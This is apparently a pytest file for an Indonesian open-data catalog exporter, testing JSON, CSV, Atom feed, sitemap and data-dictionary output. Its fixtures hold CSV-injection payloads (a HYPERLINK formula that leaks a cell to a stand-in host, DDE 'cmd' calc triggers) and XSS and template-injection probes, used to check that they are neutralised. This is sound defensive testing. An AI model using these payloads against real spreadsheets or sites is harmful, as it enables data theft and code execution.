"""Open-data exports: JSON, CSV, facets, stats, feed, sitemap, schema, data dictionary."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

from generator.exports import (
    CSV_COLUMNS,
    SCHEMA_VERSION,
    export_csv,
    export_feed,
    export_json,
    innovation_record,
)

ATOM = "{http://www.w3.org/2005/Atom}"


def test_json_has_schema_version_and_computed_reverse_edges(catalog):
    data = json.loads(export_json(catalog))
    assert data["schema_version"] == SCHEMA_VERSION
    assert data["count"] == len(data["innovations"]) == 5
    by_id = {r["id"]: r for r in data["innovations"]}
    assert by_id["layanan-induk"]["replicated_by"] == [
        {"id": "replika-anak", "relation": "replikasi"}
    ]
    assert by_id["replika-anak"]["replicates"][0] == {
        "id": "layanan-induk",
        "relation": "replikasi",
    }
    assert by_id["adaptasi-cucu"]["stale"] is True
    assert [r["id"] for r in data["innovations"]] == sorted(by_id)


def test_csv_header_bom_and_list_joining(catalog):
    raw = export_csv(catalog)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == [name for name, _ in CSV_COLUMNS]
    assert len(rows) == 1 + 5
    induk = next(r for r in rows if r[0] == "layanan-induk")
    assert induk[rows[0].index("sdgs")] == "3; 16"
    assert induk[rows[0].index("replicated_by")] == "replika-anak"


def test_feed_is_atom_ordered_by_last_verified_without_clock(catalog):
    raw = export_feed(catalog, "https://contoh.id/katalog/")
    root = ET.fromstring(raw)
    assert root.tag == f"{ATOM}feed"
    updated = [e.find(f"{ATOM}updated").text for e in root.findall(f"{ATOM}entry")]
    assert updated == sorted(updated, reverse=True)
    assert root.find(f"{ATOM}updated").text == updated[0] == "2026-05-01T00:00:00Z"
    titles = [e.find(f"{ATOM}title").text for e in root.findall(f"{ATOM}entry")]
    assert '<script>alert(1)</script> & "{{ 7*7 }}"' in titles  # escaped in XML, exact when parsed
    assert export_feed(catalog, "https://contoh.id/katalog/") == raw


def test_built_site_exports_and_sitemap(built_site):
    stats = json.loads((built_site / "data/stats.json").read_text("utf-8"))
    assert stats["innovations"] == 5 and stats["replication_edges"] == 4
    facet = json.loads((built_site / "data/facets/category.json").read_text("utf-8"))
    kesehatan = next(v for v in facet["values"] if v["value"] == "kesehatan")
    assert kesehatan["count"] == 3 and kesehatan["url"] == "kategori/kesehatan/"
    schema = json.loads((built_site / "schema/innovation.schema.json").read_text("utf-8"))
    assert "properties" in schema and "title" in schema["properties"]
    sitemap = ET.fromstring((built_site / "sitemap.xml").read_bytes())
    locs = [loc.text for loc in sitemap.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    for case in ("layanan-induk", "muatan-berbahaya", "replika-anak"):
        assert any(loc.endswith(f"/inovasi/{case}/") for loc in locs), case
    assert any(loc.endswith("/kategori/kesehatan/") for loc in locs)


def test_data_dictionary_documents_every_field(built_site, catalog):
    page = (built_site / "data/kamus-data/index.html").read_text("utf-8")
    for name, _ in CSV_COLUMNS:
        assert f"<code>{name}</code>" in page, name
    documented = " ".join(part for part in page.split("<code>"))
    for key in innovation_record(catalog.by_id["layanan-induk"]):
        assert key in documented, key


FORMULAS = {  # CSV column → value written by a contributor
    "title": '=HYPERLINK("https://contoh.id/?d="&A1,"Klik")',
    "regency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "requirements": "-2+3+cmd|' /C calc'!A0",
    "cost": "+62 juta",
}


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(tmp_path):
    """OWASP's CSV-injection remedy in data/innovations.csv; the JSON keeps the text exact."""
    import shutil

    from generator.pipeline import load_catalog

    from .conftest import FIXTURE, TODAY

    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    case = content / "innovations" / "layanan-induk.md"
    text = case.read_text(encoding="utf-8")
    text = text.replace(
        "title: Layanan Induk Antrean Puskesmas Daring", f"title: '{FORMULAS['title']}'", 1
    )
    text = text.replace("regency: Kota Contoh", f"regency: \"{FORMULAS['regency']}\"", 1)
    text = text.replace(
        "requirements: Puskesmas dengan sambungan internet dan petugas pendaftaran.",
        f'requirements: "{FORMULAS["requirements"]}"',
        1,
    )
    text = text.replace("cost: Sekitar Rp50 juta per tahun.", f"cost: \"{FORMULAS['cost']}\"", 1)
    case.write_text(text, encoding="utf-8")
    catalog, _ = load_catalog(content, TODAY)
    rows = list(csv.reader(io.StringIO(export_csv(catalog).decode("utf-8-sig"))))
    row = dict(zip(rows[0], next(r for r in rows if r[0] == "layanan-induk")))
    for column, value in FORMULAS.items():
        assert row[column] == "'" + value, column
    for r in rows[1:]:  # no cell of any row starts a formula
        assert [c for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    record = next(
        r for r in json.loads(export_json(catalog))["innovations"] if r["id"] == "layanan-induk"
    )
    assert (
        record["title"] == FORMULAS["title"] and record["agency"]["regency"] == FORMULAS["regency"]
    )
    assert record["cost"] == FORMULAS["cost"] and record["requirements"] == FORMULAS["requirements"]


def test_csv_cell_neutralises_every_formula_trigger():
    from generator.exports import csv_cell

    for trigger in ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
        assert csv_cell(trigger + "1+1") == "'" + trigger + "1+1"
    for harmless in ("", "Kota Contoh", "2019", "'=sudah", " =1", "https://contoh.id/"):
        assert csv_cell(harmless) == harmless


def test_data_dictionary_explains_the_quote(outputs):
    page = next(o for o in outputs if getattr(o, "src_uri", "") == "data/kamus-data/index.md")
    assert "OWASP" in page.html and "petik tunggal" in page.html


def test_json_carries_contact_access_dates_former_ids_and_related(catalog):
    by_id = {r["id"]: r for r in json.loads(export_json(catalog))["innovations"]}
    induk = by_id["layanan-induk"]
    assert induk["contact"] == {
        "unit": "Bidang Pelayanan Kesehatan Dinas Kesehatan", "website": "https://dinkes.contoh.go.id/antrean",
        "email": "layanan@dinkes.contoh.go.id", "phone": "(0341) 551-234",
        "address": "Jl. Contoh No. 1, Kota Contoh", "note": "Senin–Jumat pukul 08.00–15.00.",
    }
    assert induk["sources"][0]["accessed"] == "2026-02-20"
    from dataclasses import replace

    renamed = replace(catalog.by_id["layanan-induk"], former_ids=("antrean-induk-lama",))
    assert innovation_record(renamed)["former_ids"] == ["antrean-induk-lama"]
    assert induk["related"] == list(catalog.by_id["layanan-induk"].related)
    assert induk["ready_to_replicate"] is True
    assert (
        "contact" not in by_id["replika-anak"]
        and by_id["replika-anak"]["ready_to_replicate"] is False
    )
    assert (
        by_id["muatan-berbahaya"]["contact"]["unit"] == "<script>alert(1)</script> {{ 7*7 }}"
    )  # data, exact


def test_csv_carries_contact_and_keeps_formulas_as_text(catalog):
    rows = {
        r["id"]: r for r in csv.DictReader(io.StringIO(export_csv(catalog).decode("utf-8-sig")))
    }
    induk = rows["layanan-induk"]
    assert induk["contact_email"] == "layanan@dinkes.contoh.go.id"
    assert induk["contact_phone"] == "(0341) 551-234"
    assert induk["former_ids"] == ""
    assert induk["source_accessed"] == "2026-02-20"
    assert induk["ready_to_replicate"] == "true"
    # "+62 …" would be a formula in Excel: kept as text with a leading apostrophe.
    assert rows["muatan-berbahaya"]["contact_phone"] == "'+62 21 555-0123"
    assert rows["replika-anak"]["source_accessed"] == ""


def test_data_dictionary_explains_readiness_and_verification(built_site):
    page = (built_site / "data/kamus-data/index.html").read_text("utf-8")
    assert "diperiksa dalam 12 bulan terakhir, mencantumkan kontak resmi" in page
    assert "tanggal seseorang mencocokkan status, kontak dan angka dengan sumbernya" in page
